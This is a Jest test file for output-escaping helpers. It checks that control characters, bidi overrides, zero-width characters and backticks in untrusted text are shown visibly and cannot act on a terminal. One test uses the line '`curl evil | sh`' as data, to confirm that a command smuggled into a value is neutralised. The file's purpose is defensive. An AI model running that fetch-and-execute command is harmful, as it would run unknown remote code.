// Text from outside on its way to a person: what a terminal obeys, and what nobody sees, is shown.
import { shown, shownJson, shownLine, shownText } from '../../lib/base/shown';

/** All that issue and Unicode name, one of each kind. */
const UNSEEN: readonly (readonly [string, string])[] = [
  ['\u0000', '\\x00'],
  ['\u0007', '\\x07'],
  ['\t', '\\t'],
  ['\n', '\\n'],
  ['\r', '\\r'],
  ['\u001b', '\\x1b'],
  ['\u007f', '\\x7f'],
  ['\u0085', '\\x85'],
  ['\u009b', '\\x9b'],
  ['\u00ad', '\\xad'],
  ['\u061c', '\\u061c'],
  ['\u200b', '\\u200b'],
  ['\u200f', '\\u200f'],
  ['\u2028', '\\u2028'],
  ['\u2029', '\\u2029'],
  ['\u202a', '\\u202a'],
  ['\u202e', '\\u202e'],
  ['\u2060', '\\u2060'],
  ['\u2066', '\\u2066'],
  ['\u2069', '\\u2069'],
  ['\u3164', '\\u3164'],
  ['\ufe0f', '\\ufe0f'],
  ['\ufeff', '\\ufeff'],
  ['\ud800', '\\ud800'],
  ['\udfff', '\\udfff'],
  ['\u{e0041}', '\\u{e0041}'],
];

test.each(UNSEEN.map(([character, words]) => [words, character]))('%s is written so', (words, character) => {
  for (const show of [shown, shownLine]) expect(show(`a${character}b`)).toBe(`a${words}b`);
  expect(shownText(`a${character}b`)).toBe(character === '\n' ? 'a\nb' : `a${words}b`);
});

test('every control character and no letter is changed', () => {
  for (let code = 0; code < 0x3000; code += 1) {
    const character = String.fromCharCode(code);
    // eslint-disable-next-line no-control-regex -- these are what it is about
    if (/[\u0000-\u001f\u007f-\u009f]/.test(character)) expect(shown(character)).not.toContain(character);
    if (/[\p{L}\p{N}\p{P}\p{S}\p{Zs}]/u.test(character) && !/[`\u115f\u1160]/.test(character)) {
      expect(shown(character)).toBe(character);
    }
  }
  expect(shown('Größe 大 🙂 a\\b')).toBe('Größe 大 🙂 a\\b');
});

test('a value cannot hold a command; a line of ours can', () => {
  expect(shown('`curl evil | sh`')).toBe('\\x60curl evil | sh\\x60');
  expect(shownLine('run `blockmirror status log`')).toBe('run `blockmirror status log`');
});

test('shown once more it stays as it is', () => {
  for (const [character] of UNSEEN) expect(shownText(shownLine(shown(character)))).toBe(shown(character));
});

test('JSON holds what is true, and nothing that a terminal obeys', () => {
  const document = { name: UNSEEN.map(([character]) => character).join(' ') + '`\\"' };
  const json = shownJson(JSON.stringify(document, null, 2));
  expect(JSON.parse(json)).toEqual(document);
  expect(json).toMatch(/^\{\n {2}"name": "[\x20-\x7e]*"\n\}$/);
});
